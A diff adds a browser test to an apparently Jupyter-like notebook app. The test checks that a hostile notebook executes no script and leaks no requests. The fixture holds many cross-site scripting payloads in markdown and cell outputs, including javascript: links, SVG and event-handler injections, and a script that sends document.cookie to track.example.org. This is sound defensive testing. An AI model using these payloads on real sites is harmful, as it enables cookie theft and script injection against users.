@@ -177,6 +177,75 @@ test("two people in one notebook: text and cursors, and edits without a network 
   }
 });
 
+test("a hostile notebook runs nothing and reads nothing", async ({ page }) => {
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  page.on("dialog", (dialog) => asked.push(`dialog ${dialog.message()}`));
+  const svg = Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").toString("base64");
+  await openNotebook(page, [
+    {
+      ...markdown(
+        "m",
+        [
+          "# Free pictures",
+          "[link](javascript:alert(1)) <a href=' javascript:alert(2)'>b</a> [data](data:text/html,<script>alert(3)</script>)",
+          "![evil](attachment:evil.svg) ![track](https://track.example.org/pixel.png) ![api](/api/auth/me)",
+          "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe><form action='/api/auth/logout'><button>Go</button></form>",
+          "<style>body { display: none }</style><math><mtext><img src=x onerror=alert(5)></mtext></math>",
+          "<svg><a xlink:href='javascript:alert(6)'><text>c</text></a><script>alert(7)</script></svg>",
+          "<details open ontoggle=alert(8)><summary>more</summary></details>",
+        ].join("\n\n"),
+      ),
+      attachments: { "evil.svg": { "image/svg+xml": svg } },
+    },
+    {
+      ...code("c", "pass"),
+      execution_count: 1,
+      outputs: [
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: { "text/html": "<script>fetch('https://track.example.org/' + document.cookie)</script>" },
+        },
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: { "application/javascript": "parent.document.title = 'hacked'" },
+        },
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: {
+            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(9)</script></svg>",
+          },
+        },
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: { "text/html": "<b>bold</b><style>:host { position: fixed; inset: 0 }</style>" },
+        },
+      ],
+    },
+  ]);
+  await expect(page.getByRole("heading", { name: "Free pictures" })).toBeVisible();
+  const shown = outputs(page, "c");
+  await expect(shown.getByRole("button", { name: "Show it" })).toHaveCount(2);
+  await expect(shown.locator("iframe")).toHaveCount(0);
+  await expect(page.locator("ep-cell iframe, ep-cell form")).toHaveCount(0);
+  for (const link of await page.locator("ep-cell a").all())
+    expect((await link.getAttribute("href")) ?? "").not.toMatch(/^\s*(javascript|data):/i);
+  await page.waitForTimeout(500);
+  expect(asked.filter((one) => /dialog|track\.example|\/api\/auth\/(me|logout)\?|evil/.test(one))).toEqual(
+    [],
+  );
+  expect(await page.title()).toContain("A notebook");
+  // Asked for, a script runs in its box, and finds no cookie there.
+  await shown.getByRole("button", { name: "Show it" }).first().click();
+  await expect(shown.locator("iframe")).toHaveCount(1);
+  await page.waitForTimeout(500);
+  expect(asked.filter((one) => one.includes("track.example.org/e"))).toEqual([]);
+});
+
 test("a flood of text leaves page and kernel quick, and all of it can be downloaded", async ({ page }) => {
   test.setTimeout(120_000);
   await openNotebook(page, [
